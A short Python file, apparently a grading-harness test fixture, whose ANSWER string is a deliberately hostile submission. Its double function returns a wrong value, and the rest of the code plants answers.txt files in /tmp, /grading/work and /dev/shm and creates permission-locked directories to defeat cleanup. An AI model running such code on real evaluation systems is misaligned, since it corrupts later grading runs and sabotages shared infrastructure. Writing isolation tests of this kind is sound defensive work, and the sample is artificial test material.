"""Leaves its answers for whoever comes next."""

ANSWER = r"""
def double(column):
    return 0



import os

for folder in ('/tmp', '/grading/work', '.', '/dev/shm'):
    for kept in ('ipython', 'matplotlib', 'keeper', 'ipython/profile_default'):
        os.makedirs(f'{folder}/{kept}', exist_ok=True)
        open(f'{folder}/{kept}/answers.txt', 'w').close()
    with open(f'{folder}/answers.txt', 'w') as file:
        file.write('6')
    os.makedirs(f'{folder}/locked/inner', exist_ok=True)
    open(f'{folder}/locked/inner/file', 'w').close()
    os.chmod(f'{folder}/locked/inner', 0)
    os.chmod(f'{folder}/locked', 0)
"""
